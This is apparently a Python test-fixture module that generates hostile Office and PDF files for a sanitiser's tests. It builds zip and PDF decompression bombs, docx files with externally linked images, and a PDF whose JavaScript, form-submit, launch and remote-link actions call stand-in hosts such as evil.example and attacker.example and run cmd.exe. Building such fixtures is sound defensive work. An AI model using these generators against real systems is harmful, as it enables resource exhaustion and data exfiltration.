"""Hostile files, made on the fly for the tests and the benchmark (no binary fixtures in the repository).

Office documents that reach out (a linked image on a web server or on this server's disk), bombs (a PDF
whose streams decode to 1 GiB, a PDF of 100,000 pages, a .docx that unzips to 1 GiB), PDFs carrying active
content (JavaScript, launch actions, forms that submit, remote go-to links, attached programs), and files
whose bytes are not what their names say.
"""

from __future__ import annotations

import functools
import io
import os
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

GIB = 1024 * 1024 * 1024
MIB = 1024 * 1024

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
IMAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{PR}">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _linked_picture(rel_id: str, n: int) -> str:
    """An inline picture whose image is *linked* (``r:link``), not embedded: Word loads it when it opens."""
    return (
        "<w:p><w:r><w:drawing>"
        '<wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="5400000" cy="7000000"/>'
        f'<wp:docPr id="{n}" name="Picture {n}"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<pic:nvPicPr><pic:cNvPr id="{n}" name="linked{n}"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{rel_id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="5400000" cy="7000000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline>"
        "</w:drawing></w:r></w:p>"
    )


def docx_bytes(
    paragraphs: list[str] = ("Youth Justice Plan",),  # type: ignore[assignment]
    *,
    linked_images: list[str] = (),  # type: ignore[assignment]
    hyperlinks: list[str] = (),  # type: ignore[assignment]
    extra_files: dict[str, bytes] | None = None,
) -> bytes:
    """A small real .docx: paragraphs of text, pictures linked to ``linked_images`` (TargetMode="External"),
    and web links."""
    body = [_paragraph(text) for text in paragraphs]
    rels = []
    for n, target in enumerate(linked_images, start=1):
        rels.append(f'<Relationship Id="rIdImg{n}" Type="{IMAGE_REL}" Target="{target}" TargetMode="External"/>')
        body.append(_linked_picture(f"rIdImg{n}", n))
    for n, target in enumerate(hyperlinks, start=1):
        rels.append(f'<Relationship Id="rIdLink{n}" Type="{HYPERLINK_REL}" Target="{target}" TargetMode="External"/>')
        body.append(f'<w:p><w:hyperlink r:id="rIdLink{n}"><w:r><w:t>{target}</w:t></w:r></w:hyperlink></w:p>')
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{"".join(body)}</w:body></w:document>'
    )
    doc_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{PR}">{"".join(rels)}</Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", PACKAGE_RELS)
        zf.writestr("word/document.xml", document)
        zf.writestr("word/_rels/document.xml.rels", doc_rels)
        for name, data in (extra_files or {}).items():
            zf.writestr(name, data)
    return out.getvalue()


@functools.cache
def _zeros_deflated(size: int) -> bytes:
    """zlib data that inflates to ``size`` zero bytes, made in well under a second: with a full flush after
    every MiB each MiB compresses to the same bytes, so the middle is one piece repeated."""
    assert size % MIB == 0 and size >= 3 * MIB
    chunk = bytes(MIB)
    c = zlib.compressobj(9)
    first = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    piece = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert piece == again
    body = first + piece * (size // MIB - 1)
    checksum = 1
    for _ in range(size // MIB):
        checksum = zlib.adler32(chunk, checksum)
    # Close the stream: an empty final block, then the Adler-32 of everything (big-endian).
    return body + b"\x03\x00" + checksum.to_bytes(4, "big")


def docx_zip_bomb(size: int = GIB) -> bytes:
    """A .docx of about 1 MB that unzips to ``size`` bytes (one "picture" of zeros)."""
    deflated = _zeros_deflated(size)[2:-4]  # raw deflate, as zip stores it
    crc = 0
    chunk = bytes(MIB)
    for _ in range(size // MIB):
        crc = zlib.crc32(chunk, crc)
    base = io.BytesIO(docx_bytes(["Budget 2017-18"]))
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info.filename, src.read(info.filename))
    # Append the bomb entry by hand: zipfile would have to compress the whole gigabyte itself.
    return _append_stored_deflate(out.getvalue(), "word/media/image1.png", deflated, crc, size)


def _append_stored_deflate(zip_bytes: bytes, name: str, deflated: bytes, crc: int, size: int) -> bytes:
    """Add an entry whose deflate data is given, rewriting the central directory (zip64 not needed < 4 GiB)."""
    import struct

    eocd = zip_bytes.rindex(b"PK\x05\x06")
    entries, cd_size, cd_offset = struct.unpack("<HII", zip_bytes[eocd + 10 : eocd + 20])
    head, central = zip_bytes[:cd_offset], zip_bytes[cd_offset : cd_offset + cd_size]
    fname = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(deflated), size, len(fname), 0) + fname
    offset = len(head)
    record = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            size,
            len(fname),
            0,
            0,
            0,
            0,
            0o644 << 16,
            offset,
        )
        + fname
    )
    body = head + local + deflated
    new_central = central + record
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries + 1, entries + 1, len(new_central), len(body), 0)
    return body + new_central + end


def zip_not_office() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("holiday/photo1.txt", "not a document")
    return out.getvalue()


def random_bytes(n: int = 20_000) -> bytes:
    return os.urandom(n)


# PDFs ------------------------------------------------------------------------------------------------


def _raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """Write numbered objects (1..n) as a PDF with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


@functools.cache
def pdf_stream_bomb(size: int = GIB) -> bytes:
    """A PDF of about 13 KB with one page whose content stream decodes (Flate over Flate) to ``size`` bytes."""
    inner = _zeros_deflated(size)
    outer = zlib.compress(inner, 9)
    page_content = b"BT /F1 24 Tf 72 720 Td (Budget monitoring) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R] "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(page_content) + page_content + b"\nendstream",
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(outer) + outer + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return _raw_pdf(objects)


@functools.cache
def pdf_page_bomb(pages: int = 100_000) -> bytes:
    """A PDF of ``pages`` pages (all sharing one content stream), written directly: a few MB."""
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length 0 >>\nstream\n\nendstream",
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    objects.extend(page for _ in range(pages))
    return _raw_pdf(objects)


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _text_page(pdf: pikepdf.Pdf, text: str) -> pikepdf.Page:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    content = b"BT /F1 18 Tf 72 720 Td (" + text.encode() + b") Tj ET"
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 595, 842]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
        Contents=pdf.make_stream(content),
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    return pdf.pages[-1]


def _link(pdf: pikepdf.Pdf, action: Dictionary, y: int = 700) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, y, 300, y + 20]), Border=Array([0, 0, 0]), A=action
        )
    )


def pdf_with_active_content() -> bytes:
    """A two-page paper carrying every kind of active content, plus one ordinary web link that must stay."""
    pdf = pikepdf.new()
    first = _text_page(pdf, "Quarterly performance report")
    second = _text_page(pdf, "Appendix: figures")
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert('owned'); this.submitForm('http://evil.example/');"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('closing')")))
    names_js = Dictionary(Names=Array([String("init"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))]))
    attachment = pdf.make_stream(b"MZ\x90\x00 this program cannot be run in DOS mode")
    attachment.Type = Name.EmbeddedFile
    filespec = Dictionary(
        Type=Name.Filespec, F=String("setup.exe"), UF=String("setup.exe"), EF=Dictionary(F=attachment)
    )
    pdf.Root.Names = Dictionary(
        JavaScript=names_js, EmbeddedFiles=Dictionary(Names=Array([String("setup.exe"), pdf.make_indirect(filespec)]))
    )
    first.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example/')")))
    annots = [
        _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))), 700),
        _link(
            pdf, Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect"))), 660
        ),
        _link(
            pdf,
            Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\paper.pdf"), D=Array([0, Name.Fit])),
            620,
        ),
        _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.lancashire.gov.uk/children")), 580),
        _link(pdf, Dictionary(S=Name.JavaScript, JS=String("app.alert(2)")), 540),
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([400, 700, 420, 720]),
                FS=pdf.make_indirect(
                    Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=attachment))
                ),
            )
        ),
    ]
    first.obj.Annots = Array(annots)
    # A Next-chained action hiding JavaScript behind an innocent web link on page two.
    hidden = Dictionary(
        S=Name.URI, URI=String("https://example.org/"), Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(3)"))
    )
    second.obj.Annots = Array([_link(pdf, hidden)])
    return _save(pdf)


def pdf_plain(pages: int = 1, text: str = "Plain paper") -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        _text_page(pdf, text)
    return _save(pdf)
